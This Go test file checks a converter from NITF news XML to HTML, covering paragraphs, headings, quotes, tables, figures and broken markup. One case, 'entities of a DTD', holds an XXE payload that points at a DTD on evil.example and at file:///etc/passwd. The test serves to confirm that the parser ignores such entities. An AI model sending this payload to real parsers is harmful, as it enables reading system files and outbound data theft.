package richtext

import (
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

func TestFromNITF(t *testing.T) {
	for _, test := range []struct{ name, nitf, want string }{
		{"paragraphs", "<p>One.</p>\n<p/>\n<p>Two &amp; three.</p>", "<p>One.</p> <p>Two &amp; three.</p>"},
		{"namespace", `<n:body.content xmlns:n="http://iptc.org/std/NITF/2006-10-18/"><n:p>One.</n:p></n:body.content>`, "<p>One.</p>"},
		{"whole document", `<?xml version="1.0" encoding="UTF-8"?><nitf><head><title>No</title><docdata><ed-msg info="no"/></docdata></head><body><body.head><hedline><hl1>No</hl1></hedline><byline>No</byline><dateline>No</dateline><abstract><p>No</p></abstract></body.head><body.content><p>Yes</p></body.content><body.end><tagline>No</tagline></body.end></body></nitf>`, "<p>Yes</p>"},
		{"cross-head", "<p/><hl2>- Boats turned back -</hl2><p/><p>x</p>", "<h2>Boats turned back</h2> <p>x</p>"},
		{"cross-head without dashes", "<hl2>Boats - and more</hl2>", "<h2>Boats - and more</h2>"},
		{"cross-head in a paragraph", "<p> - Boats turned back - </p><p>- a list point</p>", "<h2>Boats turned back</h2> <p>- a list point</p>"},
		{"block", "<block><p>a</p></block>b", "<p>a</p> <p>b</p>"},
		{"quote", "<bq><block><p>We saw it.</p></block><credit>— Ann Ito</credit></bq>", "<blockquote> <p>We saw it.</p> <footer>Ann Ito</footer> </blockquote>"},
		{"names", "<p><person>Ann</person> of <org>Port Co</org> in <location>Minato</location> paid <money>5</money> on <chron>Friday</chron>, <num>3</num> <q>times</q>.</p>", "<p>Ann of Port Co in Minato paid 5 on Friday, 3 “times”.</p>"},
		{"emphasis", "<p><em>a</em> <a href=\"https://x.example/\">b</a> H<sub>2</sub>O</p>", `<p><em>a</em> <a href="https://x.example/" rel="noopener">b</a> H<sub>2</sub>O</p>`},
		{"fraction", "<p>1 <frac><numer>1</numer><denom>2</denom></frac> and <frac><frac-num>3</frac-num><frac-sep>/</frac-sep><frac-den>4</frac-den></frac></p>", "<p>1 1/2 and 3/4</p>"},
		{"footnote", "<p>Rain<fn><p>Since noon</p></fn>.</p>", "<p>Rain (Since noon).</p>"},
		{"list", "<ul><li>a</li><li><p>b</p></li></ul>", "<ul> <li>a</li> <li>b</li> </ul>"},
		{"nitf table", "<nitf-table><nitf-table-metadata>no</nitf-table-metadata><table><caption>T</caption><tr><th>x</th></tr><tr><td>1</td></tr></table></nitf-table>", `<div class="table" tabindex="0" role="region" aria-label="T"> <table> <caption>T</caption> <thead> <tr><th scope="col" class="figures">x</th></tr> </thead> <tbody> <tr><td class="figures">1</td></tr> </tbody> </table> </div>`},
		{"pre", "<pre>\nPort   3\nHill   1\n</pre>", "<pre tabindex=\"0\">Port   3\nHill   1</pre>"},
		{"teleprinter lines", "<p>   MINATO, Nov 26 - The port has announced the sale of its <br />four ferries and of the old pier for 1.7 billion yen, as the <br />council steps up its plans for the harbour.</p>", "<p>MINATO, Nov 26 - The port has announced the sale of its four ferries and of the old pier for 1.7 billion yen, as the council steps up its plans for the harbour.</p>"},
		{"a poem", "<p>Fog on the pier,<br/>a gull<br/>and no ferry.</p>", "<p>Fog on the pier,<br>a gull<br>and no ferry.</p>"},
		{"broken", "<p>a <em>b <p>c</body.content>", "<p>a <em>b</em></p> <p>c</p>"},
		{"entities of a DTD", `<!DOCTYPE nitf SYSTEM "http://evil.example/x.dtd" [<!ENTITY % p SYSTEM "file:///etc/passwd"><!ENTITY e "boom">]><body><p>a &e; %p;</p></body>`, "<p>a &amp;e; %p;</p>"},
		{"cdata", "<p><![CDATA[a <b> & &amp; c]]></p>", "<p>a &lt;b&gt; &amp; &amp;amp; c</p>"},
	} {
		t.Run(test.name, func(t *testing.T) {
			doc := FromNITF(test.nitf)
			if got := squash(string(doc.Web(figure))); got != squash(test.want) {
				t.Errorf("FromNITF(%q):\n got %s\nwant %s", test.nitf, got, squash(test.want))
			}
			checkDoc(t, doc)
		})
	}
}

func TestMedia(t *testing.T) {
	doc := FromNITF(`<p>a</p><media media-type="image"><media-metadata name="x" value="y"/><media-reference mime-type="image/jpeg" data-location="#photo0" alt="A pier"/>` +
		`<media-caption><p>The pier, <em>seen</em> from the hill.</p></media-caption><media-producer>POOL / Minato</media-producer></media>` +
		`<media media-type="image"><media-reference source="a.jpg"/></media><media media-type="text"/>`)
	want := []Block{
		{Kind: Figure, Picture: "photo0", Alt: "A pier", Credit: "POOL / Minato", Text: []Span{
			{Text: "The pier, "}, {Text: "seen", Em: true}, {Text: " from the hill."},
		}},
		{Kind: Figure, Picture: "a.jpg"},
	}
	var got []Block
	for _, f := range doc.Figures() {
		got = append(got, *f)
	}
	diff(t, got, want)
}

var bodyContent = regexp.MustCompile(`(?s)<body\.content.*?</body\.content>|<body[ >].*?</body>`)

// TestWireBodies reads every body that stands in the agency files.
func TestWireBodies(t *testing.T) {
	root := filepath.Join("..", "..", "..", "shared", "data", "wire")
	if _, err := os.Stat(root); errors.Is(err, fs.ErrNotExist) {
		t.Skip("no agency files beside the work tree")
	}
	count := 0
	err := filepath.WalkDir(root, func(name string, e fs.DirEntry, err error) error {
		if err != nil || e.IsDir() || e.Type()&fs.ModeSymlink != 0 {
			return err
		}
		data, err := os.ReadFile(name)
		if err != nil {
			return err
		}
		for _, body := range append(bodyContent.FindAllString(string(data), -1), string(data)) {
			count++
			d, err := ReadNITF(body)
			if err != nil {
				t.Errorf("a real text is over a limit: %v", err)
			}
			checkDoc(t, d)
			if strings.Contains(body, "<p>") && len(d.Blocks) == 0 && strings.HasPrefix(body, "<body.content") {
				t.Logf("%s: nothing in %.200q", name, body)
			}
			checkFixed(t, body, "https://agency.example/")
			checkDoc(t, FromText(body))
		}
		if t.Failed() {
			t.Errorf("in %s", name)
			return fs.SkipAll
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("%d bodies", count)
}
